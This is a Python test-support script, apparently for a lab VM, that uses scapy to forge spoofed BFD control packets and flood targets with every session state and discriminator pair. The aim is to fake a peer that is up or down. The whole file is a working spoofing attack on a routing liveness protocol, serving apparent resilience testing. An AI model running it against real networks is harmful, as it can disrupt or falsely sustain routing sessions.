"""Runs inside a lab VM: forged BFD control packets (RFC 5880) to fake an inspector that lives or is dead.

    python -m tests.support.attacker_bfd '{"mac": mac, "targets": [[mac, address, address], ...],
        "discriminators": [n, ...], "seconds": 1.0}'

Each target is a destination MAC, a source address and a destination address. Sends every state with every
pair of discriminators to every target, at most 200 frames a second, and prints how many it sent.
"""

from __future__ import annotations

import itertools
import json
import struct
import sys
import time

from scapy.all import conf
from scapy.layers.inet import IP, UDP
from scapy.layers.inet6 import IPv6
from scapy.layers.l2 import Ether
from scapy.packet import Raw

ADMIN_DOWN, DOWN, INIT, UP = range(4)
POLL, FINAL = 0x20, 0x10
CONTROL_PORT = 3784
INTERVAL_MICROSECONDS = 50_000


def build_control(state: int, flags: int, mine: int, yours: int) -> bytes:
    """A control packet, version 1, detect multiplier 3, without authentication."""
    times = (INTERVAL_MICROSECONDS, INTERVAL_MICROSECONDS, 0)
    return struct.pack("!BBBBIIIII", 1 << 5, state << 6 | flags, 3, 24, mine, yours, *times)


def main() -> None:
    told = json.loads(sys.argv[1])
    socket = conf.L2socket(iface="eth0")
    numbers = told["discriminators"]
    frames = []
    for (mac, source, target), state, flags, mine, yours in itertools.product(
        told["targets"], (UP, DOWN, ADMIN_DOWN, INIT), (0, FINAL, POLL), numbers, numbers
    ):
        address = IPv6(src=source, dst=target, hlim=255) if ":" in target else IP(
            src=source, dst=target, ttl=255, tos=0xC0
        )  # fmt: skip
        packet = address / UDP(sport=49152, dport=CONTROL_PORT)
        control = build_control(state, flags, mine, yours)
        frames.append(Raw(bytes(Ether(src=told["mac"], dst=mac) / packet / control)))
    sent, end = 0, time.monotonic() + told["seconds"]
    for frame in itertools.cycle(frames):
        if time.monotonic() > end:
            break
        socket.send(frame)
        sent += 1
        time.sleep(0.005)
    print(json.dumps(sent))


if __name__ == "__main__":
    main()
